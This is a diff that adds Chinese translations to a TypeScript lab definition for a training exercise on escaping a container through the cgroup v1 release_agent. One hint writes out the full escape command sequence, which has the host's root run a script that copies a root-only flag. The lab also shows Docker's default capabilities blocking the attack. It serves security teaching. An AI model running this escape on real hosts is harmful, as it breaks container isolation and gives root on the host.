@@ -8,6 +8,7 @@
 // contrast is the same container with Docker's default capabilities: the mount is refused.
 import type { ContainerInspectInfo, LabDefinition } from '../../server/lab-kit.ts';
 import { HARDENED, HARDENED_TITLE } from '../shared/hardened-profile.ts';
+import { t } from '../shared/localized.ts';
 
 const SMALL = { memoryMb: 128, pidsLimit: 128, cpus: 0.5 } as const;
 const NOTES = { source: 'notes', target: '/notes', readOnly: true };
@@ -41,14 +42,22 @@ function plainPath(text: string): string {
 
 export const escapeReleaseAgentLab: LabDefinition = {
   id: 'escape-release-agent',
-  title: 'Escape: cgroup release_agent',
+  title: t('Escape: cgroup release_agent', '逃逸：cgroup release_agent'),
   topic: 'escapes',
-  summary:
+  summary: t(
     'With CAP_SYS_ADMIN, root in a container mounts a cgroup v1 hierarchy and makes the kernel run a script from the container as the host’s root. Use it to copy a root-only flag on the host, then see Docker’s default capabilities stop the mount.',
+    '有了 CAP_SYS_ADMIN，容器里的 root 就能挂载一个 cgroup v1 层级，让内核以宿主机 root 的身份运行容器里的一个脚本。用它在宿主机上复制一个仅 root 可读的 flag，然后看 Docker 的默认能力如何阻止这次挂载。',
+  ),
   minutes: 15,
   learned: [
-    "With CAP_SYS_ADMIN, root in a container can mount a cgroup v1 hierarchy and have the host's root run its script.",
-    "Docker's default capabilities (no SYS_ADMIN) stop the mount, and with it the escape.",
+    t(
+      "With CAP_SYS_ADMIN, root in a container can mount a cgroup v1 hierarchy and have the host's root run its script.",
+      '有了 CAP_SYS_ADMIN，容器里的 root 可以挂载一个 cgroup v1 层级，让宿主机的 root 运行它的脚本。',
+    ),
+    t(
+      "Docker's default capabilities (no SYS_ADMIN) stop the mount, and with it the escape.",
+      'Docker 的默认能力（没有 SYS_ADMIN）会阻止这次挂载，也就阻止了这次逃逸。',
+    ),
   ],
   lesson: 'escape-release-agent.md',
   escape: true,
@@ -70,7 +79,7 @@ export const escapeReleaseAgentLab: LabDefinition = {
   containers: [
     {
       name: 'escape',
-      title: 'escape (--cap-add SYS_ADMIN)',
+      title: t('escape (--cap-add SYS_ADMIN)', 'escape（--cap-add SYS_ADMIN）'),
       hostname: 'escape',
       capAdd: ['SYS_ADMIN'],
       securityOpt: ['apparmor=unconfined'],
@@ -90,13 +99,25 @@ export const escapeReleaseAgentLab: LabDefinition = {
   exercises: [
     {
       id: 'host-path',
-      title: 'Where your files live on the host',
-      goal: "Report the host path of the escape container's writable layer: the directory where the host keeps every file you create in that container.",
-      answer: { label: 'Host path', placeholder: '/var/lib/docker/overlay2/…/diff' },
+      title: t('Where your files live on the host', '你的文件在宿主机上的位置'),
+      goal: t(
+        "Report the host path of the escape container's writable layer: the directory where the host keeps every file you create in that container.",
+        '报告 escape 容器的可写层在宿主机上的路径：宿主机就在这个目录里保存你在该容器中创建的每一个文件。',
+      ),
+      answer: {
+        label: t('Host path', '宿主机路径'),
+        placeholder: t('/var/lib/docker/overlay2/…/diff', '/var/lib/docker/overlay2/…/diff'),
+      },
       hints: [
-        'The container’s / is an overlay mount, and the kernel lists a mount’s options in /proc/self/mountinfo, paths and all.',
-        'That is the hardened container’s layer. Ask in the escape terminal: each container has its own.',
-        `In the escape terminal: ${UPPERDIR_STEP}`,
+        t(
+          'The container’s / is an overlay mount, and the kernel lists a mount’s options in /proc/self/mountinfo, paths and all.',
+          '容器的 / 是一个 overlay 挂载，而内核会在 /proc/self/mountinfo 中列出挂载的选项，连同其中的路径。',
+        ),
+        t(
+          'That is the hardened container’s layer. Ask in the escape terminal: each container has its own.',
+          '那是 hardened 容器的层。请在 escape 终端中查询：每个容器都有自己的层。',
+        ),
+        t(`In the escape terminal: ${UPPERDIR_STEP}`, `在 escape 终端中：${UPPERDIR_STEP}`),
       ],
       check: async (ctx, answer) => {
         const own = upperDir(await ctx.container('escape').inspect());
@@ -105,29 +126,51 @@ export const escapeReleaseAgentLab: LabDefinition = {
         if (own !== undefined && submitted === plainPath(own)) {
           return {
             passed: true,
-            reason: `Right: ${own} (docker inspect: GraphDriver.Data.UpperDir). A file you write at /payload in the escape container is ${plainPath(own)}/payload on the host: a path the host can execute.`,
+            reason: t(
+              `Right: ${own} (docker inspect: GraphDriver.Data.UpperDir). A file you write at /payload in the escape container is ${plainPath(own)}/payload on the host: a path the host can execute.`,
+              `没错：${own}（docker inspect：GraphDriver.Data.UpperDir）。你在 escape 容器中写到 /payload 的文件，在宿主机上就是 ${plainPath(own)}/payload：一个宿主机可以执行的路径。`,
+            ),
           };
         }
         if (other !== undefined && submitted === plainPath(other)) {
           return {
             passed: false,
-            reason: 'That is the hardened container’s writable layer, not the escape container’s.',
+            reason: t(
+              'That is the hardened container’s writable layer, not the escape container’s.',
+              '那是 hardened 容器的可写层，不是 escape 容器的。',
+            ),
             hint: 1,
           };
         }
-        return { passed: false, reason: 'That is not the escape container’s upperdir.', hint: 0 };
+        return {
+          passed: false,
+          reason: t(
+            'That is not the escape container’s upperdir.',
+            '那不是 escape 容器的 upperdir。',
+          ),
+          hint: 0,
+        };
       },
       cheat: [{ terminal: 'hardened', input: UPPERDIR_STEP, capture: /^(\/\S+\/diff)$/m }],
       solution: [{ terminal: 'escape', input: UPPERDIR_STEP, capture: /^(\/\S+\/diff)$/m }],
     },
     {
       id: 'host-runs-it',
-      title: 'Make the host run your script',
-      goal: "Make the host's root copy the session's flag (flag, mode 0600, next to /notes on the host and mounted nowhere) into loot/ next to it, a directory no container mounts.",
+      title: t('Make the host run your script', '让宿主机运行你的脚本'),
+      goal: t(
+        "Make the host's root copy the session's flag (flag, mode 0600, next to /notes on the host and mounted nowhere) into loot/ next to it, a directory no container mounts.",
+        '让宿主机的 root 把会话的 flag（文件 flag，权限 0600，在宿主机上位于 /notes 旁边，没有挂载到任何地方）复制到它旁边的 loot/ 中，这是一个没有任何容器挂载的目录。',
+      ),
       hints: [
-        'In cgroup v1 each hierarchy has a release_agent: a program the kernel starts as the host’s root when the last process leaves a cgroup with notify_on_release set. Mounting a hierarchy needs CAP_SYS_ADMIN.',
-        'mount -t cgroup -o none,name=nslab-<something> nslab /tmp/cg; mkdir /tmp/cg/x; echo 1 > /tmp/cg/x/notify_on_release; put "<upperdir>/payload" in /tmp/cg/release_agent; write /payload (#!/bin/sh, cp <session dir>/flag <session dir>/loot/); then sh -c \'echo $$ > /tmp/cg/x/cgroup.procs\'. The session directory is the host path of /notes minus /notes.',
-        `In the escape terminal: ${ATTACK_STEP}`,
+        t(
+          'In cgroup v1 each hierarchy has a release_agent: a program the kernel starts as the host’s root when the last process leaves a cgroup with notify_on_release set. Mounting a hierarchy needs CAP_SYS_ADMIN.',
+          '在 cgroup v1 中，每个层级都有一个 release_agent：当最后一个进程离开一个设置了 notify_on_release 的控制组时，内核会以宿主机 root 的身份启动这个程序。挂载一个层级需要 CAP_SYS_ADMIN。',
+        ),
+        t(
+          'mount -t cgroup -o none,name=nslab-<something> nslab /tmp/cg; mkdir /tmp/cg/x; echo 1 > /tmp/cg/x/notify_on_release; put "<upperdir>/payload" in /tmp/cg/release_agent; write /payload (#!/bin/sh, cp <session dir>/flag <session dir>/loot/); then sh -c \'echo $$ > /tmp/cg/x/cgroup.procs\'. The session directory is the host path of /notes minus /notes.',
+          'mount -t cgroup -o none,name=nslab-<something> nslab /tmp/cg; mkdir /tmp/cg/x; echo 1 > /tmp/cg/x/notify_on_release; 把 "<upperdir>/payload" 写入 /tmp/cg/release_agent; 编写 /payload（#!/bin/sh，cp <session dir>/flag <session dir>/loot/）; 然后 sh -c \'echo $$ > /tmp/cg/x/cgroup.procs\'。会话目录就是 /notes 的宿主机路径去掉 /notes。',
+        ),
+        t(`In the escape terminal: ${ATTACK_STEP}`, `在 escape 终端中：${ATTACK_STEP}`),
       ],
       check: async (ctx) => {
         const files = (await ctx.sessionFiles.list('loot')).filter((f) => !f.isDirectory);
@@ -135,7 +178,10 @@ export const escapeReleaseAgentLab: LabDefinition = {
           if ((await ctx.sessionFiles.read(`loot/${file.name}`)).includes(ctx.sessionToken)) {
             return {
               passed: true,
-              reason: `loot/${file.name} holds the flag and belongs to uid ${file.uid}: the kernel ran your script as the host's root, outside every namespace of the container. The same script could have done anything root can.`,
+              reason: t(
+                `loot/${file.name} holds the flag and belongs to uid ${file.uid}: the kernel ran your script as the host's root, outside every namespace of the container. The same script could have done anything root can.`,
+                `loot/${file.name} 含有 flag，属于 uid ${file.uid}：内核以宿主机 root 的身份、在容器的所有命名空间之外运行了你的脚本。同样的脚本本可以做 root 能做的任何事。`,
+              ),
             };
           }
         }
@@ -143,8 +189,14 @@ export const escapeReleaseAgentLab: LabDefinition = {
           passed: false,
           reason:
             files.length === 0
-              ? 'loot/ on the host is empty: the host has not run your script (yet).'
-              : `loot/ holds ${files.map((f) => f.name).join(', ')}, but not the flag.`,
+              ? t(
+                  'loot/ on the host is empty: the host has not run your script (yet).',
+                  '宿主机上的 loot/ 是空的：宿主机（还）没有运行你的脚本。',
+                )
+              : t(
+                  `loot/ holds ${files.map((f) => f.name).join(', ')}, but not the flag.`,
+                  `loot/ 中有 ${files.map((f) => f.name).join(', ')}，但没有 flag。`,
+                ),
           hint: files.length === 0 ? 0 : 1,
         };
       },
